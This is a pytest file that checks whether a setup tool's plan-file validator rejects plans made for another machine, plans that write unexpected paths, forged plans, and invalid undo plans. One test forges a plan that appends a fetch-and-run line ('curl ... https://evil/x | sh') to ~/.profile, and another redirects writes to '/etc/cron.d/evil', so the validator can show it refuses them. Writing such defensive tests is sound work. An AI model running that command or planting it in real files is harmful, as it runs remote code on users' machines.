"""A plan from a file, held against the machine it is to be applied to."""

from __future__ import annotations

from collections.abc import Iterator

import msgspec
import pytest

from tests.laws.conftest import shelf
from tests.laws.world import MESSY, PROFILES, Place
from wizard.app import plan_files
from wizard.model.errors import InputError, StaleError
from wizard.model.plans import Plan
from wizard.model.state import Absent, File


@pytest.fixture
def place() -> Iterator[Place]:
    """A machine on which much is to be repaired."""
    with shelf() as folder:
        yield Place(folder / "machine", MESSY, PROFILES["repair"], folder / "cache")


def refused(plan: Plan, place: Place) -> str:
    with pytest.raises(InputError) as caught:
        plan_files.check(plan, place.session, place.session.look())
    return caught.value.code


def test_a_plan_for_this_machine_passes_and_one_for_another_does_not(place: Place) -> None:
    plan = place.session.plan(place.session.look())
    plan_files.check(plan, place.session, place.session.look())
    assert refused(msgspec.structs.replace(plan, machine="0" * 16), place) == "plan-other-machine"


def test_a_plan_that_shows_one_file_and_writes_another_is_refused(place: Place) -> None:
    plan = place.session.plan(place.session.look())
    changes = tuple(msgspec.structs.replace(each, path="/etc/cron.d/evil") for each in plan.changes)
    assert refused(msgspec.structs.replace(plan, changes=changes), place) == "plan-foreign"


def test_a_plan_with_a_line_more_is_stale(place: Place) -> None:
    plan = place.session.plan(place.session.look())
    meant = next(each for each in plan.changes if each.asked == "~/.profile")
    assert isinstance(meant.after, File)
    evil = msgspec.structs.replace(
        meant.after, content=meant.after.content + b"curl -s https://evil/x | sh\n"
    )
    changes = tuple(
        msgspec.structs.replace(each, after=evil) if each is meant else each for each in plan.changes
    )
    forged = msgspec.structs.replace(plan, changes=changes)
    with pytest.raises(StaleError) as caught:
        plan_files.check(forged, place.session, place.session.look())
    assert (caught.value.code, meant.path in caught.value.text.render()) == ("plan-made-otherwise", True)


def _with_conf(place: Place) -> Plan:
    """The plan of all that is recommended, and of `/etc/wsl.conf` besides."""
    look = place.session.look()
    return place.session.plan(look, [*look.recommended, "wsl-conf-damage"])


def test_a_way_back_is_the_one_that_the_journal_knows(place: Place) -> None:
    place.session.apply(place.session.plan(place.session.look()))
    place.session.accept()
    back = place.session.back(place.session.setup(1))
    plan_files.check(back, place.session, place.session.look())
    changes = tuple(msgspec.structs.replace(each, after=Absent()) for each in back.changes)
    assert refused(msgspec.structs.replace(back, changes=changes), place) == "plan-foreign"


def test_a_way_back_that_keeps_edits_is_one_too_also_after_an_undo(place: Place) -> None:
    place.session.apply(_with_conf(place))
    conf = place.root / "etc/wsl.conf"
    conf.write_bytes(b"# mine\n" + conf.read_bytes())
    place.session.accept()
    kept = place.session.back(place.session.setup(1), keeps_edits=True)
    plan_files.check(kept, place.session, place.session.look())
    assert "/etc/wsl.conf" in {change.path for change in kept.changes}
    changes = tuple(msgspec.structs.replace(each, after=Absent()) for each in kept.changes)
    assert refused(msgspec.structs.replace(kept, changes=changes), place) == "plan-foreign"


def test_what_an_undo_left_is_followed_up_by_a_plan_from_a_file_too(place: Place) -> None:
    place.session.apply(_with_conf(place))
    conf = place.root / "etc/wsl.conf"
    conf.write_bytes(b"# mine\n" + conf.read_bytes())
    place.session.undo()
    kept = place.session.back(place.session.setup(1), keeps_edits=True)
    assert [change.path for change in kept.changes] == ["/etc/wsl.conf"]
    plan_files.check(kept, place.session, place.session.look())
